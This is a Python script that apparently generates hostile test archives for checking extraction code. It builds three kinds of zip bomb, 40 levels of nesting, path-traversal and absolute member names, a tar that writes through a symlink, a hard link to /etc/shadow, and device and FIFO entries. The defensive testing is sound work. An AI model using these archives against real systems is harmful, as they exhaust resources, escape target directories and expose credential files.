#!/usr/bin/env python3
"""Generate hostile archives (issue 3 / issue 6): zip bombs of three kinds,
deep nesting, path traversal, links and devices in tar.  Nothing downloaded.
usage: make_hostile_archives.py OUTDIR SENTINEL_DIR"""
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

out, sentinel = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)


def zbytes(entries, method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, data in entries:
            z.writestr(zipfile.ZipInfo(n) if isinstance(n, str) else n, data,
                       compress_type=method)
    return b.getvalue()


def put(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


# 1. overlapping-entry bomb: one deflated kernel, many central directory
#    entries pointing at the same local header (after D. Fifield's design).
kernel_size = 64 << 20
comp = zlib.compressobj(9, zlib.DEFLATED, -15)
kernel = comp.compress(b"\0" * kernel_size) + comp.flush()
crc = zlib.crc32(b"\0" * kernel_size) & 0xffffffff
name = b"kernel.txt"
local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0, crc, len(kernel),
                    kernel_size, len(name), 0) + name
body = local + kernel
cd = b""
n_entries = 500
for i in range(n_entries):
    nm = b"file%04d.txt" % i
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0, crc, len(kernel),
                      kernel_size, len(nm), 0, 0, 0, 0, 0, 0) + nm
eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n_entries, n_entries, len(cd), len(body), 0)
put("overlap-bomb.zip", body + cd + eocd)

# 2. 1 GiB of zeros in one member, streamed through zlib
b = io.BytesIO()
with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as z:
    zi = zipfile.ZipInfo("zeros.bin")
    zi.compress_type = zipfile.ZIP_DEFLATED
    with z.open(zi, "w", force_zip64=True) as w:
        chunk = b"\0" * (16 << 20)
        for _ in range(64):
            w.write(chunk)
put("zeros-1g.zip", b.getvalue())

# 3. 42.zip style: 10 x 10 x 10 x 10 copies of a 16 MiB kernel (160 GiB)
level = zbytes([("0.txt", b"\0" * (16 << 20))])
for depth in range(4):
    level = zbytes([("%d.zip" % i, level) for i in range(10)])
put("recursive-bomb.zip", level)

# 4. 40 levels of nesting
data = zbytes([("bottom.txt", b"the bottom\n")])
for i in range(40):
    data = zbytes([("level%02d.zip" % i, data)])
put("nested-40.zip", data)

# 5. traversal and absolute names
put("traversal.zip", zbytes([("../../escape.txt", b"escaped\n"),
                             ("/tmp/absolute.txt", b"absolute\n"),
                             ("ok/inside.txt", b"inside\n")]))


def tar_with(entries):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        for info, data in entries:
            t.addfile(info, io.BytesIO(data) if data is not None else None)
    return b.getvalue()


def ti(name, kind=tarfile.REGTYPE, size=0, linkname="", devmajor=0, devminor=0):
    i = tarfile.TarInfo(name)
    i.type = kind
    i.size = size
    i.linkname = linkname
    i.devmajor, i.devminor = devmajor, devminor
    i.mode = 0o644
    return i


# 6. a symlink to a directory outside, then a write through it
payload = b"written through the link\n"
put("symlink-write.tar", tar_with([
    (ti("link", tarfile.SYMTYPE, linkname=sentinel), None),
    (ti("link/pwned.txt", size=len(payload)), payload)]))
# 7. a hard link to /etc/shadow
put("hardlink.tar", tar_with([(ti("shadow", tarfile.LNKTYPE, linkname="/etc/shadow"), None),
                              (ti("readme.txt", size=6), b"hello\n")]))
# 8. a device node and a FIFO
put("device.tar", tar_with([(ti("sda", tarfile.BLKTYPE, devmajor=8, devminor=0), None),
                            (ti("null", tarfile.CHRTYPE, devmajor=1, devminor=3), None),
                            (ti("fifo", tarfile.FIFOTYPE), None),
                            (ti("readme.txt", size=6), b"hello\n")]))
